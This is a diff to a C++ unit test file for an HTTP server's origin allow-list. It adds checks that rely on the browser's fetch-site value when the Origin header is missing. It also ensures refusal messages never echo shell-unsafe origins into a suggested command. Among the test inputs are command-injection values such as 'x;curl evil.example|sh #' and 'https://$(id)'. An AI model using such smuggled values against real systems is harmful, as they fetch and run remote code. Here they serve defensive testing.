@@ -53,6 +53,14 @@ TEST(HttpOrigins, pages_of_those_that_are_named_may_just_as_they_are_named) {
   EXPECT_TRUE(Origins({"*"}).allow("https://evil.example", host));
 }
 
+TEST(HttpOrigins, pages_that_hide_theirs_are_known_by_their_browsers_word) {
+  const Origins origins({"https://app.example"});
+  EXPECT_FALSE(origins.allow("", host, "cross-site"));
+  for (const char* site : {"", "same-origin", "same-site", "none"})
+    EXPECT_TRUE(origins.allow("", host, site)) << site;
+  EXPECT_TRUE(Origins({"*"}).allow("", host, "cross-site"));
+}
+
 TEST(HttpOrigins, are_named_as_browsers_write_them) {
   for (const char* text : {"*", "null", "https://app.example", "http://localhost:5173", "http://[::1]:80",
                            "capacitor://localhost"})
@@ -64,7 +72,9 @@ TEST(HttpOrigins, are_named_as_browsers_write_them) {
 
 TEST(HttpOrigins, who_is_refused_is_told_what_to_do) {
   EXPECT_THAT(refusal_of("https://app.example"), HasSubstr("--allow-origin https://app.example if"));
-  EXPECT_THAT(refusal_of("null"), HasSubstr("--allow-origin null."));
+  // What a shell would take for something else is in no command that somebody may paste.
+  for (const char* odd : {"null", "*", "x;curl evil.example|sh #", "https://$(id)", "https://a b"})
+    EXPECT_THAT(refusal_of(odd), testing::Not(HasSubstr("--allow-origin"))) << odd;
   EXPECT_LT(refusal_of("https://" + std::string(10'000, 'x')).size(), 1'000U);
 }
 
